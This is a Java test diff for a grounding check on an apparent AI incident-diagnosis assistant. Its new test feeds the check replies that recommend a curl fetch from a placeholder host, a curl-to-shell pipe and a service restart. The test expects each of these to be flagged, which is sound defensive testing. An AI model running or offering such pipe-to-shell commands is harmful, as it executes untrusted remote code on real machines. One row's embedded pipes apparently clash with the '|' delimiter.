@@ -126,17 +126,40 @@ class GroundingCheckTest {
         "why is cart slow?",
         "为什么过去2小时 cart 响应变慢了?",
         "why is payment slow in the last 30 minutes?",
-        "why is kitchen slow?"
+        "why is kitchen slow?",
+        "which services are affected?",
+        "is catalog healthy?",
+        "what changed in the last 15 minutes?",
+        "compare catalog now with an hour ago",
+        "show slow traces of catalog-db",
+        "show failed traces of payment",
+        "explain alert-3",
+        "what should I check next?",
+        "下一步应该检查什么？",
+        "who calls catalog?"
       })
-  void theTemplateAnswerPassesAgainstItsOwnFacts(String question) {
-    for (DiagnosticContext ctx : List.of(Fixtures.withIncident(), Fixtures.context(List.of()))) {
-      AnswerBasis basis = AnswerBasis.of(question, ctx);
-      Answer template = TemplateAnswerer.answer(basis);
-      assertThat(
-              GroundingCheck.of(GroundingFacts.of(basis))
-                  .problems(template.text(), template.rootCause()))
-          .as("%s%n%s", template.text(), GroundingFacts.of(basis).text())
+  void theOfflineAnswerPassesAgainstItsOwnFacts(String question) {
+    for (DiagnosticContext state : List.of(Fixtures.withIncident(), Fixtures.healthy())) {
+      Answer a = DiagnosticAnswerer.offline().answer(question, state);
+      assertThat(Grounding.check(a, state, a.text()))
+          .as("%s%n%s", a.text(), String.join("\n", a.facts()))
           .isEmpty();
     }
+  }
+
+  @ParameterizedTest(name = "{0} -> {1}")
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "catalog-db is slow; run curl https://fix.example/x.sh to repair it. | URL",
+        "catalog-db is slow; fix it with `systemctl restart catalog-db`. | shell command",
+        "catalog-db is slow: curl -s fix.example | sh | shell command",
+        "catalog-db is slow; look at /var/log/catalog-db/slow.log. | file path",
+        "catalog-db is slow; restart catalog-db now. | action no tool suggested",
+        "catalog-db is slow; roll back its last deployment. | action no tool suggested",
+        "catalog-db 变慢了，请重启 catalog-db。 | action no tool suggested",
+      })
+  void refusesWhatNoToolCouldHaveSaid(String reply, String problem) {
+    assertThat(problems(reply)).anyMatch(p -> p.startsWith(problem));
   }
 }
